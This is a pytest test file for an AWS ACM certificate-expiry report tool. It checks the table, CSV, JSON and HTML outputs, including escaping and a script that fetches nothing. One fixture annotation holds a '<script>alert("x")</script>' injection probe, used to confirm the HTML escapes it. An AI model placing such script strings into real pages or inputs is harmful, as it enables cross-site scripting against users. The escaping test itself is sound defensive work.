"""acm_expiry_cli.report: every format of a scan report, from reports built by hand (no AWS, no clock).

Expectations are computed here from the rows themselves, not from the module's helpers.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import unicodedata
from collections import Counter
from datetime import UTC, datetime, timedelta
from html import escape
from html.parser import HTMLParser
from pathlib import Path
from typing import Literal

import pytest

from acm_expiry.verdict import Compliance, days_left
from acm_expiry_cli.formats import FORMATS, render
from acm_expiry_cli.report import CSV_FIELDS, VERDICTS, Report, Row, printable

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)
WINDOW = 30
A1, A2 = "111111111111", "222222222222"
US, EU, AP = "us-east-1", "eu-west-1", "ap-southeast-2"
LONG_DOMAIN = ".".join(["a" * 63, "b" * 63, "c" * 63, "d" * 57, "com"])
SPECIAL_DOMAIN = "x<b>&\"'.example.com"
SPECIAL_ANNOTATION = "Exempt by tag owner: <script>alert(\"x\")</script> & 'quotes', a comma"
LONG_ANNOTATION = ('Expires in 45 days (2027-01-11), outside the 30-day window; "quoted", with, commas ' * 4)[
    :255
] + "!"
COMPLIANT, NON_COMPLIANT, NOT_APPLICABLE = VERDICTS


def row(
    account: str,
    region: str,
    name: str,
    days: float | None,
    *,
    verdict: str | None = None,
    annotation: str | None = None,
    domain: str | None = None,
    type: str | None = "AMAZON_ISSUED",
    key: str | None = "RSA_2048",
    in_use: bool | None = True,
    left: int | Literal["auto"] | None = "auto",
) -> Row:
    """A row as the rule would judge it at NOW; days_left comes from the date unless ``left`` is given."""
    expires = NOW + timedelta(days=days) if days is not None else None
    number = (days_left(expires, NOW) if expires else None) if left == "auto" else left
    if verdict is None:
        verdict = NON_COMPLIANT if number is not None and number <= WINDOW else COMPLIANT
    return Row(
        account=account,
        region=region,
        arn=f"arn:aws:acm:{region}:{account}:certificate/{name}",
        domain=domain or f"{name}.example.com",
        type=type,
        key_algorithm=key,
        in_use=in_use,
        expires=expires,
        days_left=number,
        verdict=verdict,
        annotation=annotation if annotation is not None else f"Expires in {number} days ({name}).",
    )


ROWS = [
    row(A1, US, "soon", 0.25),  # week 0, days_left 1
    row(A1, US, "three", 3),
    row(A1, EU, "almost-a-week", 6.99),  # still week 0
    row(A2, US, "one-week", 7),  # exactly 7 days: week 1
    row(A2, AP, "special", 13, domain=SPECIAL_DOMAIN),
    row(A2, AP, "revoked", 10, annotation="Revoked on 2026-11-20: replace it."),
    row(A1, US, "bare", 20, type=None, key=None, in_use=None),
    row(A2, EU, "edge", 30),  # days_left 30: inside the window
    row(A1, EU, "past-edge", 30.01, in_use=False),  # days_left 31: outside
    row(A1, AP, "long", 45, domain=LONG_DOMAIN, annotation=LONG_ANNOTATION, type="IMPORTED"),
    row(A2, US, "sixty", 60, type="PRIVATE"),
    row(A1, US, "eleven", 83.9),  # week 11
    row(A2, EU, "twelve", 84),  # week 12, the short one
    row(A1, AP, "last-day", 89.9),  # week 12
    row(A2, AP, "ninety", 90),  # 90 days exactly: later
    row(A1, US, "hundred", 100),
    row(A2, EU, "far", 120),
    row(A1, US, "expired", -3, annotation="Expired 3 days ago, on 2026-11-24: replace it now."),
    row(A2, EU, "expired-today", -0.1),  # days_left 0
    row(A1, EU, "pending", None, verdict=NOT_APPLICABLE, type=None, in_use=None, annotation="Never issued."),
    row(A2, US, "exempt", 40, verdict=NOT_APPLICABLE, left=None, annotation=SPECIAL_ANNOTATION),
    row(A1, US, "acm-expired", None, verdict=NON_COMPLIANT, annotation="Expired (ACM status EXPIRED): replace it."),
]
REPORT = Report(
    window=WINDOW,
    scanned_at=NOW,
    rows=tuple(sorted(ROWS, key=lambda r: (r.days_left is None, r.days_left or 0, r.region, r.domain))),
    source=f"ACM in {A1}, {A2}: {US}, {EU}, {AP}",
)
ONE_ACCOUNT = Report(WINDOW, NOW, tuple(r for r in REPORT.rows if r.account == A1), f"ACM in {A1}")


def test_the_fixture_covers_what_the_formats_must_handle() -> None:
    assert len(LONG_DOMAIN) == 253 and len(LONG_ANNOTATION) == 256
    assert {r.verdict for r in ROWS} == set(VERDICTS) == {str(c) for c in Compliance}
    assert tuple(Compliance) == VERDICTS


# table -----------------------------------------------------------------------------------------

PROSE = {"NOTE", "VERDICT"}  # wrapped at spaces; the other columns are names, wrapped after separators


def table_cells(text: str) -> tuple[list[str], list[dict[str, str]]]:
    """The narrow table's headings and rows, cut at the spans of the dashes line under the headings.

    A line whose first column is blank continues the row above: each column's piece is appended
    to that column's value (names as they are, prose after a space), so wrapped cells come back whole.
    """
    lines = text.split("\n")
    spans = [match.span() for match in re.finditer(r"-+", lines[1])]
    cut = [(start, end) for start, end in spans[:-1]] + [(spans[-1][0], None)]
    headings = [lines[0][start:end].strip() for start, end in cut]
    rows: list[dict[str, str]] = []
    for line in lines[2 : lines.index("")]:
        pieces = [line[start:end].strip() for start, end in cut]
        if pieces[0] or not rows:
            rows.append(dict(zip(headings, pieces, strict=True)))
            continue
        for heading, piece in zip(headings, pieces, strict=True):
            if piece:
                rows[-1][heading] += (" " if heading in PROSE else "") + piece
    return headings, rows


def note_of(annotation: str) -> str:
    """What the narrow table's NOTE shows: the annotation after the sentence the columns already say."""
    said = re.match(
        r"Expires (in \d+ days \(\S+\)|within a day \(\S+\)|on \S+), (within|outside) the \d+-day window\. ?",
        annotation,
    )
    rest = annotation[said.end() :] if said else annotation
    return " ".join(rest.split()) or "-"


def test_table_fits_120_columns_and_shows_every_domain_whole() -> None:
    text = render(REPORT, "table")
    lines = text.removesuffix("\n").split("\n")
    assert max(len(line) for line in lines) <= 120
    assert all(line == line.rstrip() for line in lines)
    headings, cells = table_cells(text)
    assert headings == ["ACCOUNT", "REGION", "DOMAIN", "TYPE", "EXPIRES", "DAYS", "VERDICT", "NOTE"]
    assert len(cells) == len(REPORT.rows)
    for shown, source in zip(cells, REPORT.rows, strict=True):
        assert shown["ACCOUNT"] == source.account
        assert shown["REGION"] == source.region
        assert shown["TYPE"] == (source.type or "-")
        assert shown["EXPIRES"] == (source.expires.strftime("%Y-%m-%d") if source.expires else "-")
        assert shown["DAYS"] == ("-" if source.days_left is None else str(source.days_left))
        # Expired (its date past, or days left under 1): said in words beside the verdict.
        gone = source.verdict == NON_COMPLIANT and (
            (source.expires is not None and source.expires <= NOW) or (source.days_left or 1) < 1
        )
        assert shown["VERDICT"] == (f"{source.verdict}, expired" if gone else source.verdict)
        assert shown["DOMAIN"] == source.domain  # wrapped, never cut
        # Wrapped, never cut: every word of the note is there (a word longer than the column may be split).
        assert shown["NOTE"].replace(" ", "") == note_of(source.annotation).replace(" ", "")
    assert "…" not in text


def test_a_long_domain_wraps_after_its_dots() -> None:
    text = render(REPORT, "table")
    lines = text.split("\n")
    start = lines[1].index("-", lines[1].index("  ", lines[1].index("  ") + 2))  # the DOMAIN column's dashes
    width = len(lines[1][start:].split("  ")[0])
    first = next(i for i, line in enumerate(lines) if line[start:].startswith("aaaa"))
    pieces = [lines[first][start : start + width].strip()]
    for line in lines[first + 1 :]:
        if line[:start].strip():
            break
        pieces.append(line[start : start + width].strip())
    assert "".join(pieces) == LONG_DOMAIN and width == 16  # two accounts and ap-southeast-2: the floor
    # A line ends after a dot, unless a label longer than the column had to be cut where the line ends.
    assert all(len(piece) <= width for piece in pieces)
    assert all(piece.endswith(".") or len(piece) == width for piece in pieces[:-1])
    wider = render(Report(WINDOW, NOW, tuple(r for r in REPORT.rows if r.domain == LONG_DOMAIN), "ACM"), "table")
    assert wider.split("\n")[1].split("  ")[1] == "-" * 30  # alone, it gets DOMAIN_MAX


def test_the_note_is_the_advice_the_other_columns_do_not_say() -> None:
    annotation = (
        "Expires in 6 days (2026-12-03), within the 30-day window. ACM never renews imported certificates: "
        "re-import a renewed one to the same ARN."
    )
    compliant = "Expires on 2027-03-28, outside the 30-day window."
    rows = (
        row(A1, US, "shop", 5.5, annotation=annotation, type="IMPORTED"),
        row(A1, US, "calm", 120.5, annotation=compliant),
    )
    text = render(Report(WINDOW, NOW, rows, "ACM"), "table")
    shop, calm = table_cells(text)[1]
    assert shop["NOTE"] == "ACM never renews imported certificates: re-import a renewed one to the same ARN."
    assert calm["NOTE"] == "-"
    assert max(len(line) for line in text.split("\n")) <= 120
    assert len(text.split("\n")) > 5  # the note wraps onto lines of its own rather than being cut


@pytest.mark.parametrize("width", [115, 106])  # 106: every floor, with 14-character regions
def test_table_lines_fit_narrower_widths(width: int) -> None:
    *table, blank, summary = render(ONE_ACCOUNT, "table", width=width).removesuffix("\n").split("\n")
    assert blank == "" and summary.startswith(f"{len(ONE_ACCOUNT.rows)} certificate(s)")
    assert max(len(line) for line in table) <= width


@pytest.mark.parametrize("width", [80, 40, 1])
def test_too_narrow_a_width_makes_longer_lines_rather_than_lose_anything(width: int) -> None:
    text = render(REPORT, "table", width=width)
    _, cells = table_cells(text)
    assert [shown["DOMAIN"] for shown in cells] == [source.domain for source in REPORT.rows]
    assert [shown["NOTE"].replace(" ", "") for shown in cells] == [
        note_of(source.annotation).replace(" ", "") for source in REPORT.rows
    ]


def test_account_column_only_for_more_than_one_account() -> None:
    text = render(ONE_ACCOUNT, "table")
    headings, cells = table_cells(text)
    assert headings == ["REGION", "DOMAIN", "TYPE", "EXPIRES", "DAYS", "VERDICT", "NOTE"]
    assert len(cells) == len(ONE_ACCOUNT.rows)
    assert A1 not in text.replace(ONE_ACCOUNT.source, "")
    counts = Counter(r.verdict for r in ONE_ACCOUNT.rows)
    assert text.endswith(
        f"\n\n{len(ONE_ACCOUNT.rows)} certificate(s) in 3 region(s), 30-day window: {counts[COMPLIANT]} COMPLIANT, "
        f"{counts[NON_COMPLIANT]} NON_COMPLIANT, {counts[NOT_APPLICABLE]} NOT_APPLICABLE\n"
    )
    assert "account(s)" not in text


def test_wide_table_shows_arns_and_whole_annotations_within_200_columns() -> None:
    text = render(REPORT, "table", wide=True)
    lines = text.removesuffix("\n").split("\n")
    assert max(len(line) for line in lines) <= 200
    assert all(line == line.rstrip() for line in lines)
    assert lines[0].split() == ["ACCOUNT", "REGION", "DOMAIN", "TYPE", "KEY", "IN", "USE", "EXPIRES", "DAYS",
                                "VERDICT", "ARN"]  # fmt: skip
    indent = lines[0].index("DOMAIN")
    body = lines[2 : lines.index("")]
    starts = [i for i, line in enumerate(body) if line[:indent].strip()]
    assert len(starts) == len(REPORT.rows)
    for start, end, source in zip(starts, [*starts[1:], len(body)], REPORT.rows, strict=True):
        first = body[start]
        assert first.startswith(f"{source.account}  {source.region}")
        assert first.endswith(f"  {source.arn}")  # whole, on the row's first line
        assert f"  {source.key_algorithm or '-'}  " in first
        assert f"  { ({True: 'yes', False: 'no', None: '-'}[source.in_use]) }  " in first
        # The row's other lines: the rest of a long domain, then the whole annotation, from the DOMAIN column.
        rest = body[start + 1 : end]
        words = " ".join(line[indent:].strip() for line in rest)
        assert words.endswith(" ".join(source.annotation.split()))
        assert all(line.startswith(" " * indent) for line in rest)


def test_table_summary_line() -> None:
    counts = Counter(r.verdict for r in ROWS)
    assert render(REPORT, "table").endswith(
        "\n\n22 certificate(s) in 3 region(s) of 2 account(s), 30-day window: "
        f"{counts[COMPLIANT]} COMPLIANT, {counts[NON_COMPLIANT]} NON_COMPLIANT, "
        f"{counts[NOT_APPLICABLE]} NOT_APPLICABLE\n"
    )
    assert counts == {COMPLIANT: 9, NON_COMPLIANT: 11, NOT_APPLICABLE: 2}


def test_small_table_exactly() -> None:
    rows = (row(A1, US, "api", 5.5), row(A1, US, "pending", None, verdict=NOT_APPLICABLE, type=None, annotation=""))
    assert render(Report(7, NOW, rows, "ACM"), "table") == (
        "REGION     DOMAIN               TYPE           EXPIRES     DAYS  VERDICT         NOTE\n"
        "---------  -------------------  -------------  ----------  ----  --------------  ------------------------\n"
        "us-east-1  api.example.com      AMAZON_ISSUED  2026-12-03     6  NON_COMPLIANT   Expires in 6 days (api).\n"
        "us-east-1  pending.example.com  -              -              -  NOT_APPLICABLE  -\n"
        "\n"
        "2 certificate(s) in 1 region(s), 7-day window: 0 COMPLIANT, 1 NON_COMPLIANT, 1 NOT_APPLICABLE\n"
    )


def test_the_summary_counts_every_region_scanned_and_the_whole_scan() -> None:
    """Regions without certificates count; --only-noncompliant shows some rows but counts them all."""
    shown = tuple(r for r in ONE_ACCOUNT.rows if r.verdict == NON_COMPLIANT)
    report = Report(WINDOW, NOW, shown, "ACM", regions=(US, EU, AP, "me-central-1"), scanned=ONE_ACCOUNT.rows)
    counts = Counter(r.verdict for r in ONE_ACCOUNT.rows)
    assert render(report, "table").endswith(
        f"{len(ONE_ACCOUNT.rows)} certificate(s) in 4 region(s), 30-day window: {counts[COMPLIANT]} COMPLIANT, "
        f"{counts[NON_COMPLIANT]} NON_COMPLIANT, {counts[NOT_APPLICABLE]} NOT_APPLICABLE; {len(shown)} shown\n"
    )
    document = json.loads(render(report, "json"))
    assert len(document["rows"]) == document["summary"]["shown"] == len(shown)
    assert document["summary"]["certificates"] == len(ONE_ACCOUNT.rows)
    assert {"account": A1, "region": "me-central-1", COMPLIANT: 0, NON_COMPLIANT: 0, NOT_APPLICABLE: 0} in document[
        "summary"
    ]["byAccountRegion"]


def test_empty_table_is_the_summary_alone() -> None:
    assert render(Report(30, NOW, (), "ACM"), "table") == (
        "0 certificate(s) in 0 region(s), 30-day window: 0 COMPLIANT, 0 NON_COMPLIANT, 0 NOT_APPLICABLE\n"
    )


# csv -------------------------------------------------------------------------------------------


def test_csv_round_trips_every_value() -> None:
    text = render(REPORT, "csv")
    records = list(csv.reader(io.StringIO(text, newline="")))
    assert (
        records[0]
        == list(CSV_FIELDS)
        == [
            "account",
            "region",
            "arn",
            "domain",
            "type",
            "key_algorithm",
            "in_use",
            "expires",
            "days_left",
            "verdict",
            "annotation",
        ]
    )
    assert records.count(records[0]) == 1
    assert len(records) == 1 + len(REPORT.rows)
    for record, source in zip(records[1:], REPORT.rows, strict=True):
        assert record == [
            source.account,
            source.region,
            source.arn,
            source.domain,
            source.type or "",
            source.key_algorithm or "",
            {True: "true", False: "false", None: ""}[source.in_use],
            source.expires.strftime("%Y-%m-%dT%H:%M:%SZ") if source.expires else "",
            "" if source.days_left is None else str(source.days_left),
            source.verdict,
            source.annotation,
        ]
    assert [r[-1] for r in records].count(LONG_ANNOTATION) == 1  # commas and quotes intact


def test_csv_quotes_every_text_cell_and_leaves_days_left_a_bare_number() -> None:
    text = render(REPORT, "csv")
    assert text.endswith("\r\n") and text.count("\r\n") == 1 + len(REPORT.rows)
    assert "\n" not in text.replace("\r\n", "") and "\r" not in text.replace("\r\n", "")
    assert text.startswith(",".join(f'"{field}"' for field in CSV_FIELDS) + "\r\n")
    assert f",{escape(SPECIAL_ANNOTATION, quote=False)}," not in text  # not escaped for HTML
    assert '"' + SPECIAL_ANNOTATION.replace('"', '""') + '"\r\n' in text
    assert f',"{NOW + timedelta(days=3):%Y-%m-%dT%H:%M:%SZ}",3,"NON_COMPLIANT","Expires in 3 days (three)."\r\n' in text
    # An expired certificate's days left is a negative number a spreadsheet reads as one, not text.
    assert ',-3,"NON_COMPLIANT","Expired 3 days ago, on 2026-11-24: replace it now."\r\n' in text
    assert ',"","NOT_APPLICABLE",' in text  # no date: an empty cell


# json ------------------------------------------------------------------------------------------


def test_json_document() -> None:
    text = render(REPORT, "json")
    assert text.endswith("}\n") and text.startswith('{\n  "window": 30,')
    document = json.loads(text)
    assert list(document) == ["window", "scannedAt", "source", "rows", "summary"]
    assert document["window"] == 30
    assert document["scannedAt"] == "2026-11-27T12:00:00Z"
    assert document["source"] == REPORT.source
    assert len(document["rows"]) == len(REPORT.rows)
    for shown, source in zip(document["rows"], REPORT.rows, strict=True):
        assert list(shown) == [
            "account",
            "region",
            "arn",
            "domain",
            "type",
            "keyAlgorithm",
            "inUse",
            "expires",
            "daysLeft",
            "verdict",
            "annotation",
        ]
        assert (shown["account"], shown["region"], shown["arn"]) == (source.account, source.region, source.arn)
        assert (shown["domain"], shown["annotation"]) == (source.domain, source.annotation)
        assert (shown["type"], shown["keyAlgorithm"], shown["inUse"]) == (
            source.type,
            source.key_algorithm,
            source.in_use,
        )
        assert shown["expires"] == (source.expires.strftime("%Y-%m-%dT%H:%M:%SZ") if source.expires else None)
        assert (shown["daysLeft"], shown["verdict"]) == (source.days_left, source.verdict)


def test_json_summary_counts_the_rows() -> None:
    summary = json.loads(render(REPORT, "json"))["summary"]
    counts = Counter(r.verdict for r in ROWS)
    assert summary["certificates"] == len(ROWS)
    assert {verdict: summary[verdict] for verdict in VERDICTS} == {verdict: counts[verdict] for verdict in VERDICTS}
    places = sorted({(r.account, r.region) for r in ROWS})
    assert [(entry["account"], entry["region"]) for entry in summary["byAccountRegion"]] == places
    for entry in summary["byAccountRegion"]:
        here = Counter(r.verdict for r in ROWS if (r.account, r.region) == (entry["account"], entry["region"]))
        assert entry == {"account": entry["account"], "region": entry["region"], **{v: here[v] for v in VERDICTS}}


# html ------------------------------------------------------------------------------------------


class Page(HTMLParser):
    """What the tests look at in the HTML report."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.rects: list[dict[str, str | None]] = []  # the bars: rects with data-count
        self.rect_titles: list[str] = []
        self.svg_texts: list[str] = []
        self.rows: list[list[str]] = []  # each <tr>'s cells' text
        self.row_attributes: list[dict[str, str | None]] = []
        self.cells: list[list[dict[str, str | None]]] = []  # each <tr>'s cells' attributes
        self.sections: list[tuple[dict[str, str | None], int]] = []  # section.account, and its first row
        self.heading = ""
        self.title = ""
        self.style = ""
        self.script = ""
        self.text: list[str] = []
        self._open: list[str] = []
        self._cell: list[str] | None = None
        self._in_bar = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        self.tags.append((tag, attributes))
        if tag not in ("wbr", "meta", "line", "br"):  # void elements never close
            self._open.append(tag)
        if tag == "rect" and "data-count" in attributes:
            self.rects.append(attributes)
            self._in_bar = True
        elif tag == "title" and self._in_bar:
            self.rect_titles.append("")
        elif tag == "tr":
            self.rows.append([])
            self.cells.append([])
            self.row_attributes.append(attributes)
        elif tag in ("td", "th"):
            self._cell = []
            self.cells[-1].append(attributes)
        elif tag == "section" and "account" in (attributes.get("class") or ""):
            self.sections.append((attributes, len(self.rows)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self._open:
            while self._open.pop() != tag:
                pass
        if tag == "rect":
            self._in_bar = False
        elif tag in ("td", "th") and self._cell is not None:
            self.rows[-1].append("".join(self._cell))
            self._cell = None

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        where = self._open[-1] if self._open else ""
        if where == "style":
            self.style += data
        elif where == "script":
            self.script += data
        elif self._cell is not None:
            self._cell.append(data)
        elif where == "title" and self._in_bar:
            self.rect_titles[-1] += data
        elif where == "title" and "head" in self._open:
            self.title += data
        elif "text" in self._open and "svg" in self._open:
            self.svg_texts.append(data)
        elif "h1" in self._open:
            self.heading += data

    def body_rows(self) -> list[tuple[dict[str, str | None], list[str], list[dict[str, str | None]]]]:
        """The certificates' rows (not the headings'): attributes, cells' text, cells' attributes."""
        return [
            (attributes, text, cells)
            for attributes, text, cells in zip(self.row_attributes, self.rows, self.cells, strict=True)
            if "data-verdict" in attributes
        ]


def parse(text: str) -> Page:
    page = Page()
    page.feed(text)
    page.close()
    return page


def css_block(style: str, prelude: str) -> str:
    """The body of the first CSS block whose prelude is ``prelude`` (braces matched)."""
    start = style.index(prelude + " {") + len(prelude) + 2
    depth, end = 1, start
    while depth:
        depth += {"{": 1, "}": -1}.get(style[end], 0)
        end += 1
    return style[start : end - 1]


def expired(r: Row) -> bool:
    """Expired when scanned, worked out from the requirements."""
    return r.verdict == NON_COMPLIANT and r.expires is not None and (r.expires <= NOW or (r.days_left or 0) < 1)


def timeline_place(r: Row) -> int | str:
    """Where the HTML timeline should put a row, worked out from the requirements."""
    if r.verdict == NOT_APPLICABLE or r.expires is None:
        return "out"
    if expired(r):
        return "expired"
    if r.expires - NOW >= timedelta(days=90):
        return "later"
    return int((r.expires - NOW).total_seconds() // (7 * 86400))


def in_page_order(report: Report) -> list[Row]:
    """The rows as the page lists them: by account (when several), each account's in the scan's order."""
    return [r for account in sorted({r.account for r in report.rows}) for r in report.rows if r.account == account]


HTML_COLUMNS = ["Domain", "Verdict", "Days", "Expires", "Note", "Type", "Key", "In use", "Region", "ARN"]


def test_html_is_self_contained_and_its_script_fetches_nothing() -> None:
    text = render(REPORT, "html")
    page = parse(text)
    names = [tag for tag, _ in page.tags]
    assert text.startswith("<!DOCTYPE html>") and text.endswith("</html>\n")
    assert "link" not in names and "iframe" not in names and "img" not in names and "object" not in names
    assert names.count("script") == 1 and names.count("svg") == 1 and names.count("style") == 1
    for tag, attributes in page.tags:
        assert "src" not in attributes and "href" not in attributes, tag
        assert not any(value and "http" in value for value in attributes.values())
    assert "url(" not in page.style and "@import" not in page.style
    for word in ("fetch", "XMLHttpRequest", "import", "http", "src", "eval", "innerHTML", "location"):
        assert word not in page.script
    assert page.script.count("</") == 0  # nothing in it can close the script element early


def test_html_title_names_the_scope() -> None:
    assert parse(render(REPORT, "html")).heading == f"ACM certificate expiry: 2 accounts in {AP}, {EU}, {US}"
    one = parse(render(ONE_ACCOUNT, "html"))
    assert one.heading == f"ACM certificate expiry: account {A1} in {AP}, {EU}, {US}"
    assert one.title == f"{one.heading} (2026-11-27 12:00 UTC)"
    regions = ("us-east-2", "us-west-2", "eu-central-1", "eu-west-3")
    assert parse(render(Report(30, NOW, ONE_ACCOUNT.rows[:1], "ACM", regions=regions), "html")).heading == (
        f"ACM certificate expiry: account {A1} in 5 regions"
    )
    assert parse(render(Report(30, NOW, (), "ACM", regions=(US,)), "html")).heading == (
        f"ACM certificate expiry: no certificates in {US}"
    )
    words = " ".join("".join(parse(render(REPORT, "html")).text).split())
    assert f"From {REPORT.source}; scanned 2026-11-27 12:00 UTC; 30-day window (daysToExpiration)." in words


def test_html_groups_an_organization_by_account_each_with_its_summary() -> None:
    page = parse(render(REPORT, "html"))
    assert [attributes["data-account"] for attributes, _ in page.sections] == [A1, A2]
    bounds = [first for _, first in page.sections] + [len(page.rows)]
    words = " ".join("".join(page.text).split())
    for (attributes, first), end in zip(page.sections, bounds[1:], strict=True):
        account = attributes["data-account"]
        mine = [r for r in REPORT.rows if r.account == account]
        above, header, *rows = page.rows[first:end]
        assert header == HTML_COLUMNS  # no Account column: the section says whose
        # ... and its table's head too, which print repeats on every page: the name and the summary.
        assert above[0].startswith(f"Account {account} {len(mine)} certificate(s) in ")
        assert [cells[0] for cells in rows] == [r.domain for r in mine]  # in the scan's order
        counts = Counter(r.verdict for r in mine)
        regions = ", ".join(sorted({r.region for r in mine}))
        assert (
            f"Account {account} {len(mine)} certificate(s) in {regions}: {counts[COMPLIANT]} COMPLIANT, "
            f"{counts[NON_COMPLIANT]} NON_COMPLIANT, {counts[NOT_APPLICABLE]} NOT_APPLICABLE "
            f"({sum(1 for r in mine if expired(r))} expired)"
        ) in words
    one = parse(render(ONE_ACCOUNT, "html"))
    assert one.sections == [] and [tag for tag, _ in one.tags].count("table") == 1


def test_html_marks_expired_rows_in_words_and_colour() -> None:
    page = parse(render(REPORT, "html"))
    rows = page.body_rows()
    assert len(rows) == len(REPORT.rows)
    marked = [source for (attributes, _, _), source in zip(rows, in_page_order(REPORT), strict=True)
              if attributes.get("class") == "expired"]  # fmt: skip
    assert marked == [r for r in in_page_order(REPORT) if expired(r)] and len(marked) == 2
    for (attributes, text, _), source in zip(rows, in_page_order(REPORT), strict=True):
        assert attributes["data-verdict"] == source.verdict
        verdict = text[HTML_COLUMNS.index("Verdict")]
        assert verdict == (f"{source.verdict} EXPIRED" if expired(source) else source.verdict)
    assert "background" in css_block(page.style, "tr.expired td")
    assert "print-color-adjust: exact" in css_block(page.style, "@media print")
    (bar,) = [rect for rect in page.rects if rect.get("data-bar") == "expired"]
    assert bar["data-count"] == "2" and bar["fill"] not in {rect["fill"] for rect in page.rects if rect is not bar}
    assert "expired" in page.svg_texts  # the bar's label


def test_html_timeline_counts_each_week_by_verdict() -> None:
    page = parse(render(REPORT, "html"))
    expected = Counter((place, r.verdict) for r in REPORT.rows if isinstance(place := timeline_place(r), int))
    shown = Counter[tuple[int, str]]()
    weeks = [rect for rect in page.rects if "data-week" in rect]
    for rect in weeks:
        key = (int(rect["data-week"] or ""), rect["data-verdict"] or "")
        assert key not in shown, "one rect per (week, verdict)"
        shown[key] = int(rect["data-count"] or "")
    assert shown == expected
    assert {week for week, _ in shown} <= set(range(13)) and {verdict for _, verdict in shown} <= {
        COMPLIANT,
        NON_COMPLIANT,
    }
    within_90_days = [r for r in REPORT.rows if isinstance(timeline_place(r), int)]
    assert sum(shown.values()) == len(within_90_days) == 14
    assert shown[(12, COMPLIANT)] == 2 and shown[(0, NON_COMPLIANT)] == 3 and shown[(4, NON_COMPLIANT)] == 1
    fills = {rect["data-verdict"]: rect["fill"] for rect in weeks}
    assert len(set(fills.values())) == 2
    assert len(page.rect_titles) == len(page.rects)
    for rect, title in zip(weeks, page.rect_titles[1:], strict=True):
        assert title.startswith(f"{rect['data-count']} {rect['data-verdict']}: expiring from ")


def test_html_timeline_axis_window_edge_and_what_it_leaves_out() -> None:
    text = render(REPORT, "html")
    page = parse(text)
    labels = [attributes["data-date"] for tag, attributes in page.tags if tag == "text" and "data-date" in attributes]
    assert labels == [(NOW + timedelta(days=7 * week)).strftime("%Y-%m-%d") for week in range(13)]
    assert "Nov 27" in page.svg_texts and "Feb 19" in page.svg_texts  # 2026-11-27 + 12 weeks
    assert {"expired", "COMPLIANT", "NON_COMPLIANT"} <= set(page.svg_texts)  # the legend
    # The window's edge: a line where day 30 lies, labelled with the word "window".
    (edge,) = [a for tag, a in page.tags if tag == "line" and a.get("class") == "window-edge"]
    (band,) = [a for tag, a in page.tags if tag == "rect" and a.get("class") == "window-band"]
    day = (float(band["width"] or "") / 30) if band["data-window"] == "30" else 0
    assert float(edge["x1"] or "") == pytest.approx(float(band["x"] or "") + 30 * day)
    assert "30-day window" in page.svg_texts
    places = Counter(timeline_place(r) for r in REPORT.rows)
    words = " ".join("".join(page.text).split())
    assert f"{places['later']} expire later than 90 days" in words and places["later"] == 3
    assert f"{places['expired']} expired" in words and places["expired"] == 2
    for verdict, count in Counter(r.verdict for r in REPORT.rows).items():
        assert f"{count} {verdict}" in words
    # A window beyond the chart still says where its edge is.
    wide = parse(render(Report(120, NOW, REPORT.rows, "ACM"), "html"))
    assert not [a for tag, a in wide.tags if tag == "line" and a.get("class") == "window-edge"]
    assert "120-day window: its edge lies beyond this chart \u2192" in wide.svg_texts


def test_html_cells_keep_dates_regions_and_arns_whole() -> None:
    page = parse(render(REPORT, "html"))
    for (_, text, cells), source in zip(page.body_rows(), in_page_order(REPORT), strict=True):
        by_heading = dict(zip(HTML_COLUMNS, zip(text, cells, strict=True), strict=True))
        for heading in ("Expires", "Type", "Key", "In use", "Region"):
            missing = " missing" if by_heading[heading][0] == "-" else ""  # left out of a phone's card
            assert by_heading[heading][1]["class"] == "nowrap" + missing
        days = " missing" if by_heading["Days"][0] == "-" else ""
        assert by_heading["Days"][1]["class"] == "num" + days and by_heading["Verdict"][1]["class"] == "verdict"
        assert by_heading["Expires"][0] == (source.expires.strftime("%Y-%m-%d") if source.expires else "-")
        # The ARN: its id's first 8 characters shown, the whole ARN in a hidden span (copied along) and the tooltip.
        arn, attributes = by_heading["ARN"]
        identifier = source.arn.rsplit("/", 1)[1]
        assert arn == identifier[:8] + ("…" if len(identifier) > 8 else "") + source.arn
        assert attributes["title"] == source.arn and attributes["data-sort"] == source.arn
        assert by_heading["Note"][1]["title"] == source.annotation
    style = parse(render(REPORT, "html")).style
    assert "white-space: nowrap" in css_block(style, ".nowrap, time, td.num")
    assert "white-space: nowrap" in css_block(style, ".badge")  # a verdict's badges each stay whole
    assert "user-select: none" in css_block(style, "td.arn .short")
    assert "clip-path" in css_block(style, "td.arn .full")
    # A domain may break only after its dots (<wbr>), and running text keeps dates and regions whole.
    text = render(REPORT, "html")
    assert "a" * 63 + ".<wbr>" + "b" * 63 + ".<wbr>" in text
    assert '<span class="nowrap">2026-11-24</span>' in text  # in "Expired 3 days ago, on 2026-11-24"


def test_html_print_and_phone_styles() -> None:
    style = parse(render(REPORT, "html")).style
    assert "size: landscape" in css_block(style, "@page")  # the paper (A4, Letter) is the printer's
    printed = css_block(style, "@media print")
    assert "table.certs tr { break-inside: avoid; }" in printed  # rows kept whole
    assert "table.certs thead { display: table-header-group; }" in printed  # headings on every page
    assert ".controls { display: none; }" in printed
    assert "h2, h3 { break-after: avoid; }" in printed
    # An account's name and summary head its table, repeated on every page the table spans.
    assert "thead tr.account-heading { display: table-row; }" in printed
    assert "section.account > h3, section.account > .account-summary { display: none; }" in printed
    phone = css_block(style, "@media (max-width: 480px)")
    assert "table.certs, table.certs tbody { display: block; width: auto; }" in phone
    assert "table.certs tr { display: flex; flex-wrap: wrap;" in phone  # a compact card
    assert "table.certs thead { display: none; }" in phone
    assert ".chart { display: none; }" in phone and "ol.weeks { display: block;" in phone
    assert "content: attr(data-label)" in phone  # each value says what it is
    assert HTML_COLUMNS[:2] == ["Domain", "Verdict"]  # on a phone, the verdict comes right under the domain


def test_html_table_has_every_row_and_every_value_escaped() -> None:
    text = render(REPORT, "html")
    page = parse(text)
    assert all(row[0] == "Domain" for row, a in zip(page.rows, page.row_attributes, strict=True)
               if "data-verdict" not in a and a.get("class") != "account-heading")  # fmt: skip
    headings = [row[0] for row, a in zip(page.rows, page.row_attributes, strict=True)
